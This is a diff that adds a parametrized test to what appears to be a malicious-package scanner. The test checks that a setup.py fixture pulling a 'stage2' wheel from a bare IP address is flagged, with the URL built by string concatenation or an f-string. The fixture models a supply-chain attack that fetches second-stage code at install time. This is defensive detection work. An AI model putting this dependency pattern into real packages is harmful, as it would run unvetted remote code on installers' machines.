@@ -501,6 +501,25 @@ def test_direct_url_runtime_from_raw_ip_fires(tmp_path: Path, scanner: Scanner) 
     assert "bare IP" in found[0].reason
 
 
+@pytest.mark.parametrize(
+    "deps",
+    [
+        "['fixture-stage2 @ ' + MIRROR + 'stage2-1.0-py3-none-any.whl']",
+        "[f'fixture-stage2 @ {MIRROR}stage2-1.0-py3-none-any.whl']",
+    ],
+    ids=["concatenated", "f-string"],
+)
+def test_direct_url_built_from_a_constant_fires(tmp_path: Path, scanner: Scanner, deps: str) -> None:
+    setup = (
+        "from setuptools import setup\n\nMIRROR = 'http://192.0.2.7:8000/'\n"
+        f"setup(name='{DEFAULT_NAME}', version='1.0.0', install_requires={deps})\n"
+    )
+    result = scan(write_sdist(tmp_path, setup_py=setup), scanner)
+    # with the address's own raw-ip-url at install time, the combination is malicious
+    found = assert_fires(result, "direct-url-dependency", Verdict.MALICIOUS, severity=Severity.HIGH)
+    assert "bare IP address (http://192.0.2.7:8000/stage2-1.0-py3-none-any.whl)" in found[0].reason
+
+
 def test_direct_url_runtime_from_a_host_dressed_as_the_index_fires(tmp_path: Path, scanner: Scanner) -> None:
     pyproject = (
         f'[project]\nname = "{DEFAULT_NAME}"\nversion = "1.0.0"\ndependencies = [\n'
